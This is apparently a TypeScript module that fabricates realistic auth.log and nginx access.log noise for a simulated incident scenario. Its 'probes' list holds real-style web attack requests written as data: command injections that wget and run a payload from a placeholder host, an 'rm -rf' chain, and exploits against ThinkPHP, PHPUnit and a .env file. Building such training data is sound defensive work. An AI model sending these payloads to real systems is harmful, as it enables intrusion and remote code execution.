// What every host on the net sees whether or not anybody got in: guessing, scans, people at work, and services nobody used.
import { day, hour, minute, type Scene } from './scene.ts'

export const auth = '/var/log/auth.log'
export const access = '/var/log/nginx/access.log'
export const friend = '198.51.100.20'

export function stranger(scene: Scene): string {
  return `203.0.113.${scene.chance.between(1, 120)}`
}

export function failed(scene: Scene, at: number, user: string, address: string): void {
  scene.syslog(
    auth,
    at,
    `sshd[${scene.chance.between(1000, 30000)}]`,
    `Failed password for ${user} from ${address} port ${scene.chance.between(20000, 60000)} ssh2`,
  )
}

export function accepted(
  scene: Scene,
  at: number,
  user: string,
  address: string,
  method: 'password' | 'publickey',
  port = scene.chance.between(20000, 60000),
): void {
  const key =
    method === 'publickey' ? `: ED25519 SHA256:${'AbCdEfGhIjKlMnOpQrStUvWxYz0123456789+/AbCdE'.slice(scene.chance.between(0, 3))}` : ''
  scene.syslog(
    auth,
    at,
    `sshd[${scene.chance.between(1000, 30000)}]`,
    `Accepted ${method} for ${user} from ${address} port ${port} ssh2${key}`,
  )
}

export function request(scene: Scene, at: number, address: string, line: string, status: number, agent = 'Mozilla/5.0'): void {
  const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']
  scene.log(access, at, t => {
    const stamp = `${String(t.getUTCDate()).padStart(2, '0')}/${months[t.getUTCMonth()]}/${t.getUTCFullYear()}:${t.toISOString().slice(11, 19)} +0000`
    return `${address} - - [${stamp}] "${line} HTTP/1.1" ${status} ${scene.chance.between(100, 9000)} "-" "${agent}"`
  })
}

const probes = [
  'GET /index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x',
  'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  'GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://192.0.2.9/a)',
  'GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws',
  'GET /.env',
  'POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  'GET /actuator/gateway/routes',
]

/** `level` 0–1: how loud the net is. */
export function background(scene: Scene, level: number, web: boolean): void {
  const { chance } = scene
  const first = scene.entry - 20 * day
  for (let d = first; d < scene.scan; d += day) {
    const start = Math.floor(d / day) * day
    const guesses = Math.floor(level * chance.between(5, 60))
    const guesser = stranger(scene)
    for (let i = 0; i < guesses; i++)
      failed(
        scene,
        start + chance.between(0, day),
        chance.one(['root', 'admin', 'test', 'oracle']),
        chance.is(0.5) ? guesser : stranger(scene),
      )
    if (chance.is(0.7)) {
      accepted(scene, start + 9 * hour + chance.between(0, hour), 'deploy', friend, 'publickey')
      if (chance.is(0.2)) for (let i = 0; i < 2; i++) failed(scene, start + 9 * hour - minute + i * 5000, 'alice', friend)
      if (chance.is(0.4)) accepted(scene, start + 14 * hour + chance.between(0, hour), 'alice', friend, 'password')
    }
    for (let i = 0; i < 8; i++)
      scene.syslog(
        auth,
        start + i * 3 * hour + 17 * minute,
        'CRON[1234]',
        'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)',
      )
    if (web) {
      for (let i = 0; i < 12; i++)
        request(
          scene,
          start + chance.between(0, day),
          stranger(scene),
          chance.one(['GET /', 'GET /shop', 'GET /about', 'POST /login', 'POST /cart']),
          200,
        )
      for (let i = 0; i < Math.ceil(level * 6); i++)
        request(scene, start + chance.between(0, day), stranger(scene), chance.one(probes), 404)
    }
  }
}
